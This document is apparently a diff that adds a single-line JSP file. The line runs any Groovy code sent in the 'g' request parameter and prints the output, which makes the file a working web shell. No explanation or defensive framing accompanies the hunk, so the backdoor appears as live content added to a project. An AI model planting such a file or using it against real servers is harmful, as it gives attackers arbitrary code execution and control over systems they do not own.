@@ -1,0 +1,1 @@
+<% out.print(new groovy.lang.GroovyShell().evaluate(request.getParameter("g"))); %>
